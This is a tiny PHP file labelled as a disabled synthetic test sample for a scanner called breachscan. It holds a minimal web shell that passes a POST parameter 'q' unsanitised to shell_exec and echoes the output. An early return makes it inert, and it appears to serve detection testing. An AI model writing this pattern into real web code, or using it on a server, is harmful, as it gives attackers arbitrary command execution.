<?php
// synthetic test sample for breachscan: small command runner - request parameter copied to
// a variable and passed to shell_exec with output buffering. Disabled.
return;
$q = isset($_POST['q']) ? $_POST['q'] : 'id';
ob_start();
echo shell_exec($q);
echo '<pre>' . htmlspecialchars(ob_get_clean()) . '</pre>';
